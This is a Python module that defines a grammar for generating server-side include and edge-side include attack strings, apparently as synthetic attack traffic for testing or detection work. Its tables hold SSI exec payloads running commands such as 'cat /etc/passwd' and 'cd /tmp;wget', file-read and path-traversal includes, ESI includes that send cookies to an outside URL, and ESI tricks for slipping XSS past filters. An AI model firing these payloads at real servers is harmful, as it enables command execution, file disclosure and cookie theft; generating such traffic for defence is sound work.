"""Server-side includes (Apache mod_include) and edge-side includes (W3C ESI 1.0)."""

from traffic.grammars.attacks.pieces import Grammar, Symbols, among_words

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "cmd": (
        "id", "whoami", "ls", "ls -la", "cat /etc/passwd", "dir", "uname -a", "wget ‹url›",
        "/bin/cat /etc/passwd", "ping -c ‹d› ‹evil›", "netstat -an", "cd /tmp;wget ‹url›",
        "echo ‹rnd›",
    ),
    "f": (
        "/etc/passwd", "/etc/hosts", "../../../etc/passwd", ".htaccess", "/proc/version",
        "../‹id›.php", "‹id›.log", "/etc/‹id›", "config.php",
    ),
    "v": (
        "DOCUMENT_NAME", "DATE_LOCAL", "DOCUMENT_URI", "REMOTE_ADDR", "HTTP_USER_AGENT",
        "SERVER_SOFTWARE", "LAST_MODIFIED", "QUERY_STRING_UNESCAPED", "HTTP_COOKIE", "‹id›",
        "DOCUMENT_ROOT",
    ),
    "q": ('"', '"', "'"),
    "o": ("<!--#", "<!--#", "<!--#", "<!-- #", "<!--\t#", '"><!--#', "'><!--#"),
    "c": ("-->", " -->", "-->", "--!>", "--"),
    "esivar": (
        "$(HTTP_COOKIE)", "$(HTTP_COOKIE{‹id›})", "$(HTTP_HOST)", "$(QUERY_STRING{‹id›})",
        "$(REMOTE_ADDR)", "$(HTTP_USER_AGENT)", "$url_decode($(HTTP_COOKIE))",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS, finish=among_words(0.4, ("", "", " ")))

RULES = _GRAMMAR.rules(
    ssi_exec=(
        "‹o›exec cmd=‹q#1›‹cmd›‹q#1›‹c›", "‹o›exec cgi=‹q#1›/cgi-bin/‹id›.cgi‹q#1›‹c›",
        "‹o›EXEC cmd=‹q#1›‹cmd›‹q#1›‹c›", "‹o›exec%20cmd=‹q#1›‹cmd›‹q#1›‹c›",
    ),
    ssi_include=(
        "‹o›include file=‹q#1›‹f›‹q#1›‹c›", "‹o›include virtual=‹q#1›‹f›‹q#1›‹c›",
        '‹o›include virtual="‹url›"‹c›', '‹o›include virtual="/cgi-bin/‹id›.cgi?‹abc›=‹cmd›"‹c›',
    ),
    ssi_echo=(
        "‹o›echo var=‹q#1›‹v›‹q#1›‹c›", '‹o›echo encoding="none" var="‹v›"‹c›',
        "‹o›printenv‹c›‹rnd›", '‹o›fsize file="‹f›"‹c›', '‹o›flastmod file="‹id›"‹c›',
        '‹o›config errmsg="‹words›"‹c›', '‹o›config timefmt="‹abc›"‹c›',
        '‹o›set var="‹id›" value="‹rnd›"‹c›', '‹o›if expr="‹v›"‹c›‹rnd›‹o›endif‹c›',
    ),
    esi_include=(
        '<esi:include src="‹url›"/>', "<esi:include src='‹url›'/>",
        '<esi:include src="‹url›/?c=‹esivar›" />',
        '<esi:include src="/‹id›" onerror="continue" alt="‹url›"/>',
        '<esi:include src="‹url›/‹id›.xml" dca="xslt" stylesheet="‹url›/‹id›.xsl"/>',
        '<esi:inline name="/‹id›.html" fetchable="yes"><script>‹rnd›</script></esi:inline>',
        '<esi:include src="http://‹lan›:‹port›/‹id›"/>',
    ),
    esi_variables=(
        "<esi:vars>‹esivar›</esi:vars>‹rnd›",
        '<esi:assign name="‹id#1›" value="‹esivar›"/><esi:vars>$(‹id#1›)</esi:vars>',
        "<esi:debug/>‹rnd›", '<esi:vars name="‹esivar›"/>‹rnd›',
        'x=<esi:assign name="‹abc#1›" value="\'cript\'"/><s<esi:vars name="$(‹abc#1›)"/>>'
        'alert(‹n›)</s<esi:vars name="$(‹abc#1›)"/>>',
        "<!--esi $add_header('‹id›','‹rnd›') -->", "<!--esi ‹esivar›‹rnd› -->",
        '<esi:eval src="‹url›"/>', "hell<!--esi--> ‹rnd›",
        '<esi:choose><esi:when test="‹esivar›==\'‹rnd›\'">‹id›</esi:when></esi:choose>',
        "<img src=1 on<esi:‹rnd›/>error=alert(‹n›)>",
    ),
)
